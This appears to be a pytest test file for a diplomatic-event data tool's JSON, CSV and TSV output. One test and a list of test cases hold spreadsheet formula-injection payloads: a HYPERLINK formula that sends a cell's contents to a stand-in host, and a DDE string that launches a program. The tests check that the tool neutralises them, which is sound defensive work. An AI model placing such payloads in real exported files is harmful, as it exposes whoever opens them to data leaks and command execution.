"""Output for the tools analysts use: every tabular read offers --json (the whole answer),
--nl (one JSON object a line), --csv and --tsv (flat rows with the documented columns, lists
joined with ';'), from one table of shapes (application/tabular.py) that docs/output.md lists;
CSV cells that a spreadsheet would run as formulas are neutralised, numbers and dates are not."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from dtl.application import tabular
from dtl.cli.main import main

VETO = "ed82fdc8"
DOCS = Path(__file__).resolve().parents[2] / "docs" / "output.md"

# (command line, shape, how many rows the seed story gives)
READS = [
    (["state", "NATO", "ISR", "--at", "2024-03-01"], "state", 2),
    (["roster", "NATO", "--at", "2024-08-01"], "roster", 35),  # 32 members, a partner, a veto, a demand
    (["history", "TUR", "ISR"], "history", 3),
    (["timeline", "--pair", "TUR", "ISR"], "timeline", 6),
    (["diff", "--from", "2023-01-01", "--to", "2024-08-01", "--actor", "TUR"], "diff", 5),
    (["observations", "TUR", "ISR"], "observations", 0),
    (["scores", "TUR", "ISR", "--by", "year"], "scores", 6),  # 2023 and 2024, both ways and undirected
    (["actors", "arab"], "actors", 6),
    (["catalogue"], "catalogue", None),
    (["show", VETO], "show", 1),
]


def run(capsys, store: str, *args: str) -> tuple[int, str, str]:
    code = main(["--store", store, *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture
def seed(capsys, store_url) -> str:
    code, _, err = run(capsys, store_url, "demo")
    assert code == 0, err
    return store_url


def test_every_tabular_read_prints_the_same_documented_rows_as_nl_csv_and_tsv(capsys, seed):
    for args, kind, count in READS:
        shape = tabular.SHAPES[kind]
        code, out, err = run(capsys, seed, *args, "--nl")
        assert code == 0, (args, err)
        objects = [json.loads(line) for line in out.splitlines()]
        assert all(list(o) == shape.names for o in objects), args
        for fmt, delimiter in (("--csv", ","), ("--tsv", "\t")):
            code, out, err = run(capsys, seed, *args, fmt)
            assert code == 0, (args, err)
            header, *rows = list(csv.reader(io.StringIO(out), delimiter=delimiter))
            assert header == shape.names, (args, fmt)
            assert len(rows) == len(objects), (args, fmt)
        if count is not None:
            assert len(objects) == count, (args, len(objects))


def test_json_stays_the_whole_answer_and_the_rows_come_from_it(capsys, seed):
    code, out, _ = run(capsys, seed, "state", "NATO", "ISR", "--at", "2024-03-01", "--json")
    answer = json.loads(out)
    assert code == 0 and answer["pair"] == ["NATO", "ISR"] and "position" in answer
    code, out, _ = run(capsys, seed, "state", "NATO", "ISR", "--at", "2024-03-01", "--nl")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["aspect"] for r in rows] == [m["aspect"] for m in answer["measures"]]
    assert rows[1]["by"] == ["TUR"] and rows[1]["grades"] == ["C3"]  # lists stay lists in JSON lines


def test_lists_are_joined_with_semicolons_and_nothing_is_left_blank_that_the_json_holds(capsys, seed):
    run(capsys, seed, "record", "sever-relations", "--by", "SAU,ARE,BHR,EGY", "--target", "QAT",
        "--on", "2017-06-05")  # fmt: skip
    code, out, _ = run(capsys, seed, "timeline", "--actor", "QAT", "--csv")
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and row["by"] == "SAU;ARE;BHR;EGY"
    assert row["pairs"] == "QAT-SAU;ARE-QAT;BHR-QAT;EGY-QAT"  # one per initiator, in their order


def test_show_prints_the_sources_of_an_action_one_a_row(capsys, seed):
    run(capsys, seed, "corroborate", VETO, "--source", "Reuters", "--grade", "B2")
    code, out, _ = run(capsys, seed, "show", VETO, "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and [(r["name"], r["grade"]) for r in rows] == [
        ("News report, Ankara dateline", "C3"), ("Reuters", "B2")
    ]  # fmt: skip
    assert rows[0]["added_at"] == "" and rows[1]["added_at"]  # the second was added later
    code, out, _ = run(capsys, seed, "show", VETO)
    assert "source: Reuters [B2]" in out


def test_formula_text_is_neutralised_in_csv_but_numbers_and_dates_are_left_as_they_are(capsys, seed):
    note = '=HYPERLINK("http://x.example/?"&A1,"click")'
    run(capsys, seed, "record", "meet", "--by", "TUR", "--target", "GRC", "--on", "2024-02-01",
        "--note", note)  # fmt: skip
    run(capsys, seed, "record", "accuse", "--by", "TUR", "--target", "GRC", "--on", "2024-02-02",
        "--charge", "war-crimes", "--note", "-2+3+cmd|' /C calc'!A0")  # fmt: skip
    code, out, _ = run(capsys, seed, "timeline", "--pair", "TUR", "GRC", "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and [r["note"] for r in rows] == ["'" + note, "'-2+3+cmd|' /C calc'!A0"]
    assert [r["goldstein"] for r in rows] == ["1.0", "-2.0"]  # numbers are numbers: no quote
    code, out, _ = run(capsys, seed, "timeline", "--pair", "TUR", "GRC", "--nl")
    assert [json.loads(line)["note"] for line in out.splitlines()] == [note, "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("+1-1", "+1-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"), ("-cmd", "'-cmd"), ("-0044", "-0044"), ("-0044-03", "-0044-03"),
        ("-5.0", "-5.0"), ("2023-10?/2024~", "2023-10?/2024~"), ("NATO", "NATO"), ("", ""),
    ],
)  # fmt: skip
def test_a_cell_is_quoted_only_when_a_spreadsheet_could_run_it(text, written):
    assert tabular.cell(text) == written


def test_a_negative_score_stays_a_number_in_every_text_format():
    row = {"goldstein": -5.0, "note": None, "by": ["TUR"], "announced": False}
    out = io.StringIO()
    tabular.write("csv", list(row), [row], out)
    assert out.getvalue() == "goldstein,note,by,announced\n-5.0,,TUR,false\n"


def test_two_output_formats_at_once_are_refused_in_one_line(capsys, seed):
    code, out, err = run(capsys, seed, "catalogue", "--csv", "--json")
    assert (code, out) == (2, "") and err == "dtl: output: choose one of --json, --csv\n"


def test_docs_output_md_lists_every_column_of_every_shape():
    text = DOCS.read_text(encoding="utf-8")
    for kind, shape in tabular.SHAPES.items():
        section = re.search(rf"^### `{kind}`.*?(?=^### |\Z)", text, re.S | re.M)
        assert section, f"docs/output.md has no section for {kind}"
        documented = re.findall(r"^\| `([a-z_0-9]+)` \|", section.group(0), re.M)
        assert documented == shape.names, kind
